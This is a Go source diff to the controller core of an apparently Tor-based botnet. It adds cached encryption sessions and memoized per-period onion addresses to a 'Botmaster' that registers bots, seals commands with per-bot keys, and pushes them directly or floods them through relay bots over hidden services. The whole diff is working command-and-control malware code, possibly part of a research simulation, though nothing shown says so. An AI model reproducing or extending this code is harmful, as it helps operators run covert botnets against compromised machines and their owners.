@@ -19,6 +19,21 @@ type BotRecord struct {
 	KB           []byte
 	FirstOnion   string
 	RegisteredAt time.Time
+
+	seal *botcrypto.SealKey // lazily cached K_B sealing session
+
+	// curOnion memoizes the derived address for curPeriod; the
+	// derivation is deterministic per (K_B, period).
+	curOnion  string
+	curPeriod uint64
+}
+
+// sealKey returns the cached sealing session for the bot's K_B.
+func (r *BotRecord) sealKey() *botcrypto.SealKey {
+	if r.seal == nil {
+		r.seal = botcrypto.NewSealKey(r.KB)
+	}
+	return r.seal
 }
 
 // ID is a stable identifier for the record (hash of K_B).
@@ -43,6 +58,7 @@ type Botmaster struct {
 	identity *tor.Identity
 	hs       *tor.HiddenService
 	netKey   []byte
+	netSeal  *botcrypto.SealKey
 	groups   *botcrypto.GroupKeyring
 	queues   map[string][]*Command // pull-mode command queues by bot id
 
@@ -81,6 +97,7 @@ func NewBotmaster(net *tor.Network, seed []byte) (*Botmaster, error) {
 		queues:   make(map[string][]*Command),
 		registry: make(map[string]*BotRecord),
 	}
+	m.netSeal = botcrypto.NewSealKey(m.netKey)
 	var idSeed [32]byte
 	copy(idSeed[:], drbg.Bytes(32))
 	m.identity = tor.IdentityFromSeed(idSeed)
@@ -133,7 +150,7 @@ func (m *Botmaster) onInboundConn(conn *tor.Conn) {
 }
 
 func (m *Botmaster) onMessage(conn *tor.Conn, raw []byte) {
-	plain, err := botcrypto.Open(m.netKey, raw)
+	plain, err := m.netSeal.Open(raw)
 	if err != nil {
 		return
 	}
@@ -191,7 +208,7 @@ func (m *Botmaster) replyHotlist(conn *tor.Conn, reporter *BotRecord) {
 	env.Type = MsgNoNUpdate
 	copy(env.MsgID[:], m.drbg.Bytes(16))
 	env.Payload = up.Encode()
-	sealed, err := botcrypto.Seal(m.netKey, env.Encode(), m.drbg)
+	sealed, err := m.netSeal.Seal(env.Encode(), m.drbg)
 	if err != nil {
 		return
 	}
@@ -211,7 +228,11 @@ func (m *Botmaster) NewCommand(name string, args []byte) *Command {
 // survives every rotation.
 func (m *Botmaster) CurrentOnionOf(rec *BotRecord) string {
 	ip := botcrypto.PeriodIndex(m.net.Now())
-	return botcrypto.OnionForPeriod(m.signPub, rec.KB, ip)
+	if rec.curOnion == "" || rec.curPeriod != ip {
+		rec.curOnion = botcrypto.OnionForPeriod(m.signPub, rec.KB, ip)
+		rec.curPeriod = ip
+	}
+	return rec.curOnion
 }
 
 // Reach dials a bot directly at its current derived address and
@@ -222,7 +243,7 @@ func (m *Botmaster) Reach(rec *BotRecord, cmd *Command) error {
 	if err != nil {
 		return fmt.Errorf("core: reach %s: %w", rec.ID(), err)
 	}
-	sealed, err := botcrypto.Seal(rec.KB, cmd.Encode(), m.drbg)
+	sealed, err := rec.sealKey().Seal(cmd.Encode(), m.drbg)
 	if err != nil {
 		return err
 	}
@@ -243,7 +264,7 @@ func (m *Botmaster) Broadcast(viaOnions []string, cmd *Command, ttl uint8) error
 		if err != nil {
 			continue
 		}
-		sealed, err := botcrypto.Seal(m.netKey, env.Encode(), m.drbg)
+		sealed, err := m.netSeal.Seal(env.Encode(), m.drbg)
 		if err != nil {
 			return err
 		}
@@ -261,7 +282,7 @@ func (m *Botmaster) Broadcast(viaOnions []string, cmd *Command, ttl uint8) error
 // an arbitrary entry bot. Relays cannot open the inner seal and forward
 // it blindly; only the target's K_B opens it.
 func (m *Botmaster) FloodDirected(viaOnion string, rec *BotRecord, cmd *Command, ttl uint8) error {
-	inner, err := botcrypto.SealSized(rec.KB, cmd.Encode(), DirectedSealSize, m.drbg)
+	inner, err := rec.sealKey().SealSized(cmd.Encode(), DirectedSealSize, m.drbg)
 	if err != nil {
 		return err
 	}
@@ -274,7 +295,7 @@ func (m *Botmaster) FloodDirected(viaOnion string, rec *BotRecord, cmd *Command,
 	if err != nil {
 		return fmt.Errorf("core: flood-directed via %s: %w", viaOnion, err)
 	}
-	sealed, err := botcrypto.Seal(m.netKey, env.Encode(), m.drbg)
+	sealed, err := m.netSeal.Seal(env.Encode(), m.drbg)
 	if err != nil {
 		return err
 	}
